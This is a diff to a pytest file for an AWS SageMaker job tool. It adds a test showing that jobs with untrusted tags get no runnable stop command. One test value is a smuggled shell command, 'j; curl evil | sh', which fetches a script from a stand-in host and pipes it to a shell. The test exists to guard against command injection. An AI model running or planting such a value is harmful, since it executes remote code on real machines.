@@ -6,12 +6,13 @@ from unittest import mock
 import pytest
 
 from launch.aws.client import Aws
+from launch.aws.names import JOB_TAG
 from launch.core.errors import AwsError
 from launch.rehearse.aws.sagemaker.changes import complete
 from launch.sagemaker import training_jobs
-from launch.sagemaker.leaks import leaks_of
+from launch.sagemaker.leaks import jobs, leaks_of
 from tests.launch.faults import Faults, injected, refused, throttled
-from tests.launch.sagemaker.known import NOW, training_job
+from tests.launch.sagemaker.known import NAME, NOW, training_job, typed
 from tests.launch.sagemaker.world import Stage, one_aws
 
 DAY_S = 86_400
@@ -105,6 +106,22 @@ def test_every_region_is_asked_and_one_that_does_not_answer_counts(
     assert "  there  eu-west-1  " in capsys.readouterr().out
     assert stage.type("leaks", "--all-regions", "--delete", "--yes") == 0
     assert stage.account.left() == []
+
+
+@pytest.mark.parametrize(
+    ("name", "job", "remedy"),
+    [(f"{NAME}--2", NAME, typed("stop")), (NAME, "j; curl evil | sh", None), (NAME, "--all --yes", None)],
+)
+def test_a_job_comes_with_the_command_that_stops_it_but_for_a_strangers_tag(
+    name: str, job: str, remedy: str | None, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """launch.infra shows it where a job keeps it from deleting the account's roles."""
+    one = training_job(name=name, tags={**training_job().tags, JOB_TAG: job})
+    monkeypatch.setattr(training_jobs, "costing", lambda aws, now: (one,))
+    (line,) = jobs(one_aws("us-east-1"), NOW)
+    assert line.startswith(f"{name} in us-east-1 (")
+    assert (remedy or "by hand") in line
+    assert ("python" in line) == (remedy is not None)
 
 
 @pytest.mark.parametrize("words", [("leaks",), ("status",), ("stop", "--all", "--yes")], ids=lambda words: words[0])
